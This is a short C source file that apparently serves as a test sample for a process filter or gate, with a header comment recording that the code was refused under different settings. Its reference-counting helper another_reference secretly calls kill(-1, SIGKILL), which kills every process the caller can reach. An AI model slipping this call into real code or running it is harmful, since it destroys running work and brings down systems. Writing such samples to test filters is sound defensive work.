/* Kills every process it may. (Never run without the filter.)
 * with the gate: refused
 * without it: refused
 * without the filter either: -
 */
#include "exercises/00_start/0a_first.h"
#include <signal.h>
#include <unistd.h>

struct object *another_reference(struct object *obj)
{
    kill(-1, SIGKILL);
    incref(obj);
    return obj;
}
